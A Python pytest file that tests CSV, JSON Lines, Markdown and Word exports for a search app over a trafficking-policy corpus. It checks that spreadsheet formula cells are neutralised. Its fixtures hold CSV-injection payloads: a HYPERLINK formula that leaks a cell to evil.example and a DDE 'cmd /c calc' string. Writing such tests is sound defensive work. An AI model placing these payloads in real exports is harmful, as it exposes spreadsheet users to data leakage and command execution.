"""Exports of all matching passages: CSV, JSON Lines, Markdown and Word, from the API and the app."""
import csv
import io
import itertools
import json
import re
from pathlib import Path

import docx
import pytest

from kb.errors import ExportError
from kb.export import FORMATS, ExportInfo, export_filename, export_format, neutralise, write_export
from kb.export_formats import md_escape
from kb.search import HIT_FIELDS, SearchRequest, iter_matches
from search_app import create_app, exports
from tests.conftest import home_with_document, run_kb

BASE = "http://127.0.0.1:5000"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1) Victims should receive compensation from the assets of traffickers.'
PLUS = "+1 compensation funds for victims of trafficking must be set up."
HOSTILE_TITLE = '=cmd|"/c calc"!A1 <b>Report</b> *on* [compensation]'


@pytest.fixture(scope="module")
def home(corpus_home, tmp_path_factory) -> Path:
    """The corpus, plus a document whose passages and title start like spreadsheet formulas."""
    return home_with_document(corpus_home, tmp_path_factory.mktemp("exports"), f"{HYPERLINK}\n\n{PLUS}\n",
                              id="formulas", title=HOSTILE_TITLE, issuer="Tester & Co", doc_type="report",
                              date="2023-05-01")


@pytest.fixture(scope="module")
def hits(home) -> list[dict]:
    """What `kb search theme:compensation --json` answers, all of it."""
    done = run_kb("search", "theme:compensation", "--json", "--limit", "1000", home=home)
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert answer["total"] == len(answer["hits"]) == 5
    return answer["hits"]


def exported(fmt: str, home: Path, query: str = "theme:compensation", **info) -> bytes:
    out = io.BytesIO()
    count = write_export(fmt, iter_matches(SearchRequest(query), home), out, ExportInfo(base_url=BASE, **info))
    assert count == 5
    return out.getvalue()


def test_the_docx_opens_with_python_docx_and_holds_every_passage_with_its_citation(home, hits):
    document = docx.Document(io.BytesIO(exported("docx", home)))
    quotes = [p.text for p in document.paragraphs if p.style.name == "Quote"]
    sources = [p.text for p in document.paragraphs if p.style.name == "Source"]
    assert quotes == [hit["text"] for hit in hits]
    for hit, source in zip(hits, sources):
        assert source.startswith(hit["citation"] + " · ")
        assert f"{BASE}/doc/{hit['doc_id']}#p-{hit['seq']}" in source
    assert [p.text for p in document.paragraphs if p.style.name == "Heading 2"][0].startswith("1. ")


def test_the_csv_reads_back_and_formula_cells_come_back_neutralised(home, hits):
    rows = list(csv.DictReader(io.StringIO(exported("csv", home).decode("utf-8-sig"))))
    assert [row["passage_id"] for row in rows] == [hit["passage_id"] for hit in hits]
    by_id = {row["passage_id"]: row for row in rows}
    assert by_id["formulas:1"]["text"] == "'" + HYPERLINK
    assert by_id["formulas:2"]["text"] == "'" + PLUS
    assert by_id["formulas:1"]["title"] == "'" + HOSTILE_TITLE
    for hit in hits:
        row = by_id[hit["passage_id"]]
        assert row["citation"] == neutralise(hit["citation"])
        assert row["permalink"] == f"{BASE}/doc/{hit['doc_id']}#p-{hit['seq']}"
        assert row["themes"] == "; ".join(hit["themes"])
        assert (row["issuer"], row["date"], row["year"]) == (hit["issuer"], hit["date"], str(hit["year"]))


def test_the_jsonl_carries_the_fields_of_search_json_hits_and_a_permalink(home, hits):
    records = [json.loads(line) for line in exported("jsonl", home).decode("utf-8").splitlines()]
    assert len(records) == len(hits)
    for record, hit in zip(records, hits):
        assert list(record) == list(HIT_FIELDS) + ["permalink"]
        assert {k: v for k, v in record.items() if k != "permalink"} == hit
        assert record["permalink"] == f"{BASE}/doc/{hit['doc_id']}#p-{hit['seq']}"


def test_the_markdown_quotes_each_passage_with_its_citation_and_link(home, hits):
    text = exported("md", home, subtitle="Search: theme:compensation").decode("utf-8")
    assert text.startswith("# atkb export\n\nSearch: theme:compensation\n")
    for number, hit in enumerate(hits, 1):
        assert f"\n## {number}. " in text
        assert f"Citation: {md_escape(hit['citation'])}" in text
        assert f"Link: <{BASE}/doc/{hit['doc_id']}#p-{hit['seq']}>" in text
    assert "\\<b\\>Report\\</b\\> \\*on\\* \\[compensation\\]" in text  # a hostile title shows as written
    assert "(Declaration, 16 March 2018), para. 6\n" in text  # type, date and place in the heading
    assert re.search(r"\n5 passages, exported \d{4}-\d\d-\d\d from atkb\.\n$", text)


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ('=HYPERLINK("http://x")', "'=HYPERLINK(\"http://x\")"),
    ("compensation", "compensation"), (" =1", " =1"), ("a=b", "a=b"), ("", ""), (None, ""), (2018, "2018"),
])
def test_csv_cells_that_start_like_formulas_get_a_leading_quote(cell, safe):
    assert neutralise(cell) == safe


@pytest.mark.parametrize("text, shown", [
    ("*not emphasis* and _this_", r"\*not emphasis\* and \_this\_"),
    ("[a link](http://x) <b>", r"\[a link\](http://x) \<b\>"),
    ("1. not a list", r"1\. not a list"),
    ("- not a bullet", r"\- not a bullet"),
    ("# not a heading | nor a table", r"\# not a heading \| nor a table"),
])
def test_markdown_shows_passages_as_written(text, shown):
    assert md_escape(text) == shown


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_every_format_streams_before_it_has_read_every_passage(home, fmt):
    template = next(iter_matches(SearchRequest("theme:compensation"), home))
    endless = ({**template, "seq": n, "text": template["text"] * 5} for n in itertools.count())
    first_chunks = list(itertools.islice(export_format(fmt).chunks(endless, ExportInfo()), 3))
    assert all(first_chunks)  # an endless input still gives chunks: nothing waits for the end


def test_an_unknown_format_names_the_formats_there_are():
    with pytest.raises(ExportError, match=r"pdf: unknown export format \(use csv, jsonl, md, docx\)"):
        write_export("pdf", [], io.BytesIO())


def test_export_file_names_say_what_was_exported_and_are_safe():
    filters = (("theme", "compensation", False), ("year", "2018", True))
    assert export_filename('"a b" <x>/..', filters, "csv") == "atkb-export-a-b-x-theme-compensation-not-year-2018.csv"
    assert export_filename("", (), "docx") == "atkb-export-all.docx"


# --- the app ------------------------------------------------------------------

@pytest.fixture(scope="module")
def client(home):
    app = create_app({"TESTING": True, "KB_HOME": str(home)})
    exports.init_app(app)
    exports.init_app(app)  # wiring it twice changes nothing
    return app.test_client()


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_the_app_streams_every_match_as_an_attachment(client, fmt):
    response = client.get("/export", query_string={"q": "compensation", "theme": "compensation", "format": fmt})
    assert response.status_code == 200 and response.is_streamed
    assert response.headers["Content-Disposition"] == f'attachment; filename="atkb-export-compensation-theme-compensation.{fmt}"'
    assert response.mimetype == FORMATS[fmt].mimetype.split(";")[0]
    assert response.data.startswith(b"PK") if fmt == "docx" else b"natc-see-2018-brdo-declaration" in response.data


def test_app_exports_carry_absolute_permalinks_to_this_server(client):
    rows = list(csv.DictReader(io.StringIO(client.get("/export?theme=compensation&format=csv").get_data(as_text=True).lstrip("\ufeff"))))
    assert {row["permalink"].split("/doc/")[0] for row in rows} == {"http://localhost"}


@pytest.mark.parametrize("query, status, message", [
    ({"q": "(compensation", "format": "csv"}, 400, "(compensation: a parenthesis is not closed"),
    ({"q": "compensation", "format": "pdf"}, 400, "pdf: unknown export format (use csv, jsonl, md, docx)"),
    ({"q": "compensation"}, 400, "unknown export format"),
    ({"q": "compensation", "format": "csv", "sort": "random"}, 400, "sort must be relevance, newest or oldest"),
])
def test_a_bad_export_request_answers_400_with_a_message(client, query, status, message):
    response = client.get("/export", query_string=query)
    assert response.status_code == status
    assert message in response.get_data(as_text=True)


def test_a_basket_exports_in_its_own_order_with_its_notes(client):
    items = [{"passage_id": "natc-see-2020-strategy-paper:31", "note": "=1+1 check the 2024 follow-up"},
             {"passage_id": "natc-see-2018-brdo-declaration:26", "note": ""}]
    response = client.post("/basket/export", json={"items": items, "format": "csv"})
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith('attachment; filename="atkb-basket-')
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [(row["passage_id"], row["note"]) for row in rows] == [
        ("natc-see-2020-strategy-paper:31", "'=1+1 check the 2024 follow-up"), ("natc-see-2018-brdo-declaration:26", "")]


def test_a_basket_exports_as_word_with_notes(client):
    items = [{"passage_id": "natc-see-2018-brdo-declaration:26", "note": "Compare with the 2020 wording."}]
    response = client.post("/basket/export", json={"items": items, "format": "docx"})
    texts = [p.text for p in docx.Document(io.BytesIO(response.data)).paragraphs]
    assert "Note: Compare with the 2020 wording." in texts


@pytest.mark.parametrize("body, message", [
    ({"items": [{"passage_id": "natc-see-2018-brdo-declaration:999"}, {"passage_id": "gone:1"}]},
     "these passages are not indexed (any more): natc-see-2018-brdo-declaration:999, gone:1; remove them from the basket"),
    ({"items": []}, 'the basket must be {"items": [{"passage_id": "DOC_ID:SEQ", "note": "..."}]} with one item or more'),
    ({"items": [{"note": "no id"}]}, "item 1: each item needs a passage_id (DOC_ID:SEQ)"),
    ({"items": [{"passage_id": "a:1", "note": 5}]}, "item 1: a note must be text"),
    ({"items": [{"passage_id": "a:1"}] * 501}, "a basket holds at most 500 passages; this one has 501"),
    ({"items": [{"passage_id": "natc-see-2018-brdo-declaration:26"}], "format": "pdf"},
     "pdf: unknown export format (use csv, jsonl, md, docx)"),
    ([1, 2], "send the basket as JSON with Content-Type: application/json"),
])
def test_a_bad_basket_answers_400_saying_what_is_wrong(client, body, message):
    response = client.post("/basket/export", json=body)
    assert (response.status_code, response.json) == (400, {"error": message})


def test_a_basket_must_be_json_and_not_too_big(client):
    assert client.post("/basket/export", data="items", content_type="text/plain").status_code == 400
    huge = json.dumps({"items": [{"passage_id": "a:1", "note": "x" * 4000}] * 200})
    response = client.post("/basket/export", data=huge, content_type="application/json")
    assert (response.status_code, response.json) == (413, {"error": "a basket is at most 512 KiB"})


def test_the_basket_page_works_from_local_storage(client):
    page = client.get("/basket").get_data(as_text=True)
    assert 'class="basket-items"' in page and "basket.js" in page
    assert "needs JavaScript" in page  # what a browser without scripts shows


def test_search_results_offer_the_export_menu_and_basket_buttons(client):
    page = client.get("/search", query_string={"q": "compensation", "theme": "compensation", "page": "1"}).get_data(as_text=True)
    assert 'href="/export?q=compensation&amp;theme=compensation&amp;format=csv"' in page
    assert 'href="/timeline?q=compensation&amp;theme=compensation"' in page
    assert 'data-passage-id="natc-see-2018-brdo-declaration:26"' in page
    assert "style=" not in page and "<script>" not in page  # the CSP allows neither



def test_an_export_whose_filters_leave_nothing_is_empty_not_everything(corpus_home):
    request = SearchRequest(query="victims", filters=(("year", "2000", False),))
    assert list(iter_matches(SearchRequest(query="victims"), corpus_home))
    assert list(iter_matches(request, corpus_home)) == []
